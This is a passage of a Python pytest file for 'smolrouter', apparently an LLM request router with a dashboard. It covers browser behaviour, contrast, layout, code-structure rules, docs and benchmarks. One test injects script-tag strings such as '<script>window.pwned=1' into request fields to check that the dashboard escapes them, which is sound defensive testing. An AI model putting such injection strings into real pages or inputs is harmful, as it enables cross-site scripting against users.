    said = wait_text(tab, "#explained", "goes by routes[0]")
    assert "small on box" in said and "✓routes[0]" in said
    tab.fill("[name=from]", "banana")
    wait_text(tab, "#explained", "'banana' does not appear to be an IPv4 or IPv6 address")
    tab.fill("[name=from]", "")
    tab.reload()
    # What was asked stands in the address.
    wait_text(tab, "#explained", "goes by routes[0]")
    expect_wrong(tab, "400")


def test_chat_that_is_stopped_says_so(tab: Any) -> None:
    def script(received: Received) -> Iterator[Step]:
        yield from stream_response([encode_event(TWO_WORDS[0])], whole=False)
        yield HANG

    name = default_upstream().add_script(script)
    router = page_router("broken")
    tab.goto(router.url)
    tab.click("#try-button")
    tab.fill("#try-form [name=model]", name)
    tab.click("#try-send")
    wait_text(tab, "#try-answer", "one ")
    (running,) = get_document(router, "/api/inflight")
    request(router.port, "POST", f"/api/inflight/{running['id']}/cancel", {})
    # The last words of an answer that broke off may get lost; the browser's help nobody.
    assert "network" not in wait_until(lambda: tab.text_content("#try-error"))
    tab.click("#try-send")
    wait_text(tab, "#try-answer", "one ")
    tab.click("#try-stop")
    wait_text(tab, "#try-error", "stopped")
    assert tab.is_enabled("#try-send")
    expect_wrong(tab, "ERR_")


def test_hidden_tab_is_quiet(tab: Any) -> None:
    router = page_router("quiet")
    asked = []
    tab.clock.install()
    tab.goto(router.url)
    wait_text(tab, "#rows-empty", "No request yet")
    tab.clock.run_for(6000)
    wait_text(tab, "#live", "Live")
    tab.evaluate("""hide = hidden => {
        Object.defineProperty(document, 'hidden', {get: () => hidden, configurable: true});
        document.dispatchEvent(new Event('visibilitychange'));
    }; hide(true)""")
    # What was begun before ends.
    tab.clock.run_for(5000)
    tab.on("request", lambda made: asked.append(made.url))
    tab.clock.run_for(600_000)
    assert not asked
    tab.evaluate("hide(false)")
    tab.clock.run_for(1000)
    assert wait_until(lambda: any("/api/logs" in url for url in asked))
    assert wait_until(lambda: any("/api/events" in url for url in asked))


CONTRAST = """() => {
    const parse = text => text.match(/[\\d.]+/g).map(Number);
    const linear = c => c <= .03928 ? c / 12.92 : ((c + .055) / 1.055) ** 2.4;
    const light = rgb => [.2126, .7152, .0722].reduce((sum, share, at) =>
        sum + share * linear(rgb[at] / 255), 0);
    const ground = node => {
        for (; node; node = node.parentElement) {
            const colour = parse(getComputedStyle(node).backgroundColor);
            if (colour.length < 4 || colour[3] === 1) return colour;
        }
        return [255, 255, 255];
    };
    const poor = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    let seen = 0;
    while (walker.nextNode()) {
        const node = walker.currentNode.parentElement, style = getComputedStyle(node);
        if (!walker.currentNode.data.trim() || !node.checkVisibility()) continue;
        if (node.closest("option")) continue;
        const colour = node.namespaceURI.endsWith("svg") ? style.fill : style.color;
        const [a, b] = [light(parse(colour)), light(ground(node))].sort((x, y) => y - x);
        seen += 1;
        if ((a + .05) / (b + .05) < 4.5) poor.push([node.outerHTML.slice(0, 99), colour]);
    }
    return [seen, poor];
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_page_is_legible_and_narrow(tab: Any, scheme: str) -> None:
    """In both schemes, at 380 pixels, and with hostile text in every field."""
    router = page_router("evil")
    name = EVIL_TEXT + "x" * (1000 - len(EVIL_TEXT))
    long = json_response(completion({}, EVIL_TEXT + "y" * 10_000))
    default_upstream().scripts[name] = lambda received: long
    fields = [("User-Agent", "<b>" + "z" * 3000)]
    if not default_upstream().requests_for("<script>window.pwned=1"):
        talk = {
            "model": name,
            "messages": [
                {"role": EVIL_TEXT, "content": EVIL_TEXT, "name": EVIL_TEXT},
                {"role": "user", "content": "a " + EVIL_TEXT * 200},
            ],
        }
        request(router.port, "POST", "/v1/chat/completions", talk, fields)
        request(router.port, "POST", "/v1/%3Cscript%3E" + "w" * 900, {"model": EVIL_TEXT}, fields)
        post_chat(router, "coder", stream=True)
    newest(router, "coder")
    rows = json.loads(request(router.port, "GET", "/api/logs").content)
    tab.emulate_media(color_scheme=scheme)
    tab.set_viewport_size({"width": 380, "height": 800})
    paths = ["/", "/performance", *(f"/request/{row['id']}" for row in rows)]
    for path in paths:
        tab.goto(router.url + path)
        wait_text(tab, "#live", "Live")
        tab.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
        ready = {"/": "#rows tbody tr", "/performance": ".dots"}.get(path, ".phases")
        assert wait_until(lambda: tab.locator(ready).count())
        assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
        seen, poor = tab.evaluate(CONTRAST)
        assert seen > 20 and not poor, (path, poor[:5])
        assert tab.evaluate("window.pwned") is None
        assert tab.locator("main script, main img").count() == 0
        # Compare the text that the page holds: how U+2028 is shown is up to the browser.
        if path.endswith(str(rows[-1]["id"])):
            said = tab.locator("#turns").text_content()
            assert EVIL_TEXT * 200 in said and EVIL_TEXT + "y" * 10_000 in said
            # Long names are cut, with a hash in the place of the rest.
            assert EVIL_TEXT + "x" * 150 in tab.locator("#head bdi").first.get_attribute("title")
        elif path == "/":
            assert EVIL_TEXT[:40] in tab.locator("#rows tbody").text_content()
            heights = "[...document.querySelectorAll('#rows tbody tr')].map(r => r.offsetHeight)"
            assert max(tab.evaluate(heights)) <= 64


# ======================================================================================
# The file itself
# ======================================================================================
# The shape of smolrouter.py and of this file, and what comes with them.

# --- shape ----------------------------------------------------------------------------

PROGRAM = SOURCE.partition("\nDASHBOARD_HTML = ")[0] + "\n"
TREE = ast.parse(PROGRAM)
FUNCTION = (ast.FunctionDef, ast.AsyncFunctionDef)
BLOCKS = (ast.If, ast.For, ast.AsyncFor, ast.While, ast.With, ast.AsyncWith, ast.Try)
BANNER = re.compile(r"# ={80,}\n# (\d+|A)  (.+)\n# ={80,}\n((?:#.*\n)*)")


def functions() -> list[Any]:
    """Return the syntax trees of all functions of the program."""
    return [node for node in ast.walk(TREE) if isinstance(node, FUNCTION)]


def nesting(node: ast.AST, depth: int = 0) -> int:
    """Return the deepest control flow in a function; an elif chain counts once."""
    deepest = depth
    for name, value in ast.iter_fields(node):
        for child in value if isinstance(value, list) else [value]:
            if not isinstance(child, ast.AST):
                continue
            if isinstance(child, (*FUNCTION, ast.ClassDef, ast.Lambda)):
                continue
            is_elif = isinstance(node, ast.If) and isinstance(child, ast.If)
            is_elif = is_elif and name == "orelse" and len(value) == 1
            more = isinstance(child, BLOCKS) and not is_elif
            deepest = max(deepest, nesting(child, depth + more))
    return deepest


def sections() -> dict[str, tuple[str, str, str]]:
    """Return title, prose and code of each section by its number."""
    found = list(BANNER.finditer(SOURCE))
    ends = [match.start() for match in found[1:]] + [len(SOURCE)]
    return {
        match[1]: (match[2], match[3], SOURCE[match.end() : end])
        for match, end in zip(found, ends, strict=True)
    }


def test_functions_are_short_and_flat() -> None:
    for node in functions():
        doc = ast.get_docstring(node, clean=False)
        lines = node.end_lineno - node.lineno + 1 - (doc.count("\n") + 1 if doc else 0)
        assert lines <= 50, node.name
        assert nesting(node) <= 4, node.name


def test_nothing_refers_to_what_stands_below() -> None:
    where = {node.name: node.lineno for node in TREE.body if hasattr(node, "name")}
    for block in TREE.body:
        for node in ast.walk(block):
            if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Load):
                assert where.get(node.id, 0) <= block.lineno, (node.id, block.lineno)


def test_every_signature_is_typed_and_documented() -> None:
    for node in ast.walk(TREE):
        if isinstance(node, FUNCTION):
            assert node.returns is not None, node.name
        if isinstance(node, ast.ClassDef):
            assert ast.get_docstring(node), node.name
    for node in TREE.body:
        if isinstance(node, FUNCTION):
            assert ast.get_docstring(node), node.name


def test_no_name_of_the_tests_is_given_twice() -> None:
    """The second one would silently take the place of the first."""
    tree = ast.parse(pathlib.Path(__file__).read_text("utf-8"))
    names = []
    for node in tree.body:
        targets = node.targets if isinstance(node, ast.Assign) else [getattr(node, "target", node)]
        names += [getattr(target, "id", getattr(target, "name", None)) for target in targets]
    counts = collections.Counter(name for name in names if name)
    assert [name for name, count in counts.items() if count > 1] == []


def test_no_state_hides_in_the_module() -> None:
    assert not [node for node in ast.walk(TREE) if isinstance(node, ast.Global)]
    assert len(re.findall(r"except (?:Base)?Exception\b|except:", PROGRAM)) <= 4
    assert len(re.findall(r"os\.environ|os\.getenv", PROGRAM)) == 1
    assert not re.findall(r"\b(?:TODO|FIXME|XXX)\b", PROGRAM)


def test_table_of_contents_is_true() -> None:
    docstring = ast.get_docstring(TREE)
    listed = re.findall(r"^ +(?:[A-Z][a-z ]+ )? *(\d+)  (.+?)  +\S.*$", docstring, re.M)
    real = [(number, title) for number, (title, _, _) in sections().items()]
    real = [(n, t.removesuffix(" (pure)")) for n, t in real if n != "A"]
    assert listed == real
    assert [n for n, _ in real] == [str(n) for n in range(1, 19)]


def test_the_life_of_a_request_names_what_is_there() -> None:
    life = smolrouter.__doc__.partition("The life of one request")[2].partition("Vocabulary:")[0]
    assert re.findall(r"(?m)^ +([0-9]+)\. ", life) == [str(step) for step in range(1, 11)]
    names = re.findall(r"`([\w.]+)`", life)
    assert len(names) >= 10
    for name in names:
        assert operator.attrgetter(name)(smolrouter), name


def test_tests_stand_in_the_order_of_the_program() -> None:
    """This file has the program's sections, and its docstring is a true table of contents."""
    text = pathlib.Path(__file__).read_text("utf-8")
    banners = re.findall(r"^# ={86}\n# (.+)\n# ={86}$", text, re.M)
    program = [f"{n}  {title.removesuffix(' (pure)')}" for n, (title, _, _) in sections().items()]
    assert banners == ["Harness", *program, "The file itself"]
    docstring = ast.get_docstring(ast.parse(text))
    listed = re.findall(r"^ {4} ?((?:\d+  |A  )?\S+(?: \S+)*)  +\S", docstring, re.M)
    assert listed == banners


@pytest.mark.parametrize("number", [str(n) for n in range(1, 19)])
def test_section(number: str) -> None:
    title, prose, code = sections()[number]
    assert 1 <= prose.count("\n") <= 8
    assert title.endswith(" (pure)") == (int(number) <= 10)
    if title.endswith("(pure)"):
        tree = ast.parse(code)
        assert not [n for n in ast.walk(tree) if isinstance(n, (ast.Await, ast.AsyncFor))]
        assert not re.findall(r"\bopen\(|\bsqlite3\.|\btime\.[a-z]|\basyncio\.", code)


def test_one_protocol_at_the_edge_only() -> None:
    """The word stands in Protocols, Dialects, Routing (a server's `api`) and the endpoint table."""
    for number, (_, prose, code) in sections().items():
        if number not in ("7", "8", "9", "16", "18", "A"):
            assert "ollama" not in (prose + code).lower(), number


# --- README and the guide, the image, the measurements ---------------------------------


def test_guide_lists_every_setting() -> None:
    guide = (HERE / "docs/guide.md").read_text("utf-8")
    rows = re.findall(r"^\| ([A-Z_]+) \| (.*?) \| (.*?) \|$", guide.replace("`", ""), re.M)
    wanted = [
        (f.name.upper(), str(f.metadata["default"] or "unset"), f.metadata["help"])
        for f in dataclasses.fields(smolrouter.Settings)
    ]
    assert rows == [(n, d, h.replace("`", "")) for n, d, h in wanted]


def test_links_of_readme_and_guide_lead_somewhere() -> None:
    """README stays short; what it leaves out, it links to."""
    pages = {path: (HERE / path).read_text("utf-8") for path in ("README.md", "docs/guide.md")}
    assert pages["README.md"].count("\n") <= 200
    titles = {
        path: re.findall(r"^#+ (.+)$", re.sub(r"(?ms)^ *```.*?^ *```$", "", text), re.M)
        for path, text in pages.items()
    }
    for path, text in pages.items():
        folder = pathlib.PurePosixPath(path).parent
        for target, anchor in re.findall(r"\]\((?!https?:)([^)#]*)(?:#([^)]*))?\)", text):
            page = os.path.normpath(folder / target) if target else path
            assert (HERE / page).exists(), (path, target)
            if anchor:
                assert anchor in [t.lower().replace(" ", "-") for t in titles[page]], anchor
    # The guide's table of contents names each of its parts, in their order.
    listed = re.findall(r"\]\(#([^)]*)\)", pages["docs/guide.md"].partition("\n## ")[0])
    assert listed == [t.lower().replace(" ", "-") for t in titles["docs/guide.md"][1:]]


def test_image_runs_as_nobody_and_writes_to_data_alone() -> None:
    lines = (HERE / "Dockerfile").read_text("utf-8").splitlines()
    user, folder = (lines.index(line) for line in ("USER 10001:10001", "WORKDIR /data"))
    entry = lines.index('ENTRYPOINT ["python", "/app/smolrouter.py"]')
    assert user < folder < entry and "VOLUME /data" in lines
    assert not [line for line in lines[user + 1 :] if line.startswith(("USER", "RUN", "COPY"))]
    assert "chmod 0644 /app/smolrouter.py" in "\n".join(lines)


DIRECT_FIGURES = {
    "latency p50, us", "latency p99, us", "requests/s, 32 connections", "CPU per request, us",
    "events/s, 8 streams at full speed", "CPU per event at full speed, us",
    "event delay, 5 paced streams, p50, us", "event delay, 5 paced streams, p99, us",
    "CPU per paced event, us",
}  # fmt: skip
RELAY_FIGURES = DIRECT_FIGURES | {
    "added latency p50, us", "added latency p99, us", "start to first answer, s",
    "memory at rest, MB", "memory at its peak, MB",
}  # fmt: skip
CURVES = {
    "rules, known models": ["10", "100", "1000"],
    "rules, new models": ["10", "100", "1000"],
    "connections": ["1", "30", "1000"],
    # One request more than `--rows` says tells that the router has started.
    "rows in the log": ["0", "301"],
    "KB of a request": ["1", "32", "1024"],
    "events of an answer, each": ["10", "300", "10000"],
}


@pytest.mark.skipif(sys.platform != "linux", reason="reads the clocks of other processes")
def test_measurements_have_every_figure(capsys: pytest.CaptureFixture[str]) -> None:
    """Both kinds at once, each figure in a moment: none is compared with anything."""
    bench = importlib.import_module("bench_smolrouter")
    moment = ("--rounds", "1", "--seconds", "0.05", "--streams", "5", "--rows", "300", "--json")
    runs = [
        subprocess.Popen([sys.executable, bench.__file__, *moment, *more], stdout=subprocess.PIPE)
        for more in ([], ["--curves"])
    ]
    try:
        table, curves = (json.loads(run.communicate(timeout=100)[0]) for run in runs)
    finally:
        for run in runs:
            # The signal does nothing to a process that has ended.
            run.send_signal(signal.SIGINT)
    log = {f"{path}, ms" for path in bench.QUESTIONS} | {"rows in the log"}
    assert {way: set(figures) for way, figures in table.items()} == {
        "direct": DIRECT_FIGURES, "floor": RELAY_FIGURES, "log off": RELAY_FIGURES,
        "smolrouter": RELAY_FIGURES | log,
    }  # fmt: skip
    assert {name: list(curve) for name, curve in curves.items()} == CURVES
    for figures in (*table.values(), *curves.values()):
        assert all(value > 0 or "added" in name for name, value in figures.items()), figures
    bench.show(table)
    bench.show_curves(curves)
    said = capsys.readouterr().out
    for name, value in table["smolrouter"].items():
        assert re.search(rf"^{re.escape(name)} .*\b{value:.2f}\b", said, re.M), name
    for name, curve in curves.items():
        assert re.search(rf"^{name} .*\b{[*curve.values()][-1]:.1f}\b", said, re.M), name


# --- the copy of the page -------------------------------------------------------------


def test_embedded_page_is_the_page() -> None:
    page = (HERE / "dashboard.html").read_text("utf-8")
    assert page == smolrouter.DASHBOARD_HTML, "run: python test_smolrouter.py --embed"


def test_contents_of_the_page_are_true() -> None:
    page = (HERE / "dashboard.html").read_text("utf-8")
    listed = re.findall(r"^ {15,} *(\d+)  (\S+(?: \S+)*)", page.partition("-->")[0], re.M)
    listed += re.findall(r"Script +(1)  (\S+)", page.partition("-->")[0])
    assert sorted(listed) == sorted(re.findall(r"^// == (\d+)  (.+?) =+$", page, re.M))


def embed_page() -> None:
    """Write dashboard.html into smolrouter.py as DASHBOARD_HTML."""
    page = (HERE / "dashboard.html").read_text("utf-8")
    assert '"""' not in page and not page.endswith("\\")
    start = SOURCE.index("\nDASHBOARD_HTML = ")
    end = SOURCE.index('\nif __name__ == "__main__":', start)
    literal = f'\nDASHBOARD_HTML = r"""{page}"""\n'
    SMOLROUTER.write_text(SOURCE[:start] + literal + SOURCE[end:], "utf-8")


if __name__ == "__main__" and sys.argv[1:] == ["--embed"]:
    embed_page()
